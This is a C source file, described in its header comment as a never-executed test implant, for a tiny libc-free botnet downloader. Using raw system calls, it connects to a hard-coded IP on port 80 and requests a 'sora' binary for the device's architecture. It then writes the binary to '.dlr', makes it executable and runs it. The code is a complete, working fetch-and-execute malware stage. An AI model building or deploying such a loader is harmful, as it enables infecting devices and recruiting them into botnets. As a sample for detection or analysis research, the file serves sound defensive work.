/* Test implant (never executed): a tiny libc-free downloader, the loader a
 * botnet drops on a device. Raw system calls only (tinydl-sys.h): it
 * connects to a hard-coded IP on port 80, asks for GET /bins/<name>.<arch>,
 * skips the HTTP header, writes the body to a file, makes it executable
 * and runs it. Built -nostdlib -static -Os: one or two kilobytes. */
#include "tinydl-sys.h"

#ifndef __NR_open
#define __NR_open -1 /* AArch64 has openat only; not built for it */
#endif

#define SERVER 0x0b2d3a59u /* 89.58.45.11, a public-looking literal */

struct in4 {
	unsigned short family, port;
	unsigned int addr;
	unsigned char zero[8];
};

/* network byte order without libc */
#if __BYTE_ORDER__ == __ORDER_BIG_ENDIAN__
#define BE16(v) (v)
#define BE32(v) (v)
#else
#define BE16(v) ((unsigned short)((v) >> 8 | ((v) & 0xff) << 8))
#define BE32(v) ((v) >> 24 | ((v) >> 8 & 0xff00) | ((v) & 0xff00) << 8 | (v) << 24)
#endif

static const char req[] = "GET /bins/sora." ARCH " HTTP/1.0\r\n\r\n";
static const char out[] = ".dlr";

void _start(void)
{
	struct in4 a;
	char buf[256], *argv[2];
	long s, f, n, hdr = 0;
	/* field by field: an initialiser would call memcpy */
	a.family = 2;
	a.port = BE16(80);
	a.addr = BE32(SERVER);
	for (n = 0; n < 8; n++)
		a.zero[n] = 0;
	argv[0] = (char *)out;
	argv[1] = 0;
	s = sys3(__NR_socket, 2, 1, 0);
	if (sys3(__NR_connect, s, (long)&a, sizeof(a)) < 0)
		sys3(__NR_exit, 1, 0, 0);
	sys3(__NR_write, s, (long)req, sizeof(req) - 1);
	f = sys3(__NR_open, (long)out, 01 | 0100 | 01000, 0777);
	while ((n = sys3(__NR_read, s, (long)buf, sizeof(buf))) > 0) {
		long i = 0;
		/* the body starts after the blank line ending the header */
		while (hdr < 4 && i < n)
			hdr = buf[i++] == (hdr % 2 ? '\n' : '\r') ? hdr + 1 : 0;
		sys3(__NR_write, f, (long)buf + i, n - i);
	}
	sys3(__NR_close, f, 0, 0);
	sys3(__NR_chmod, (long)out, 0777, 0);
	sys3(__NR_execve, (long)out, (long)argv, 0);
	sys3(__NR_exit, 0, 0, 0);
}
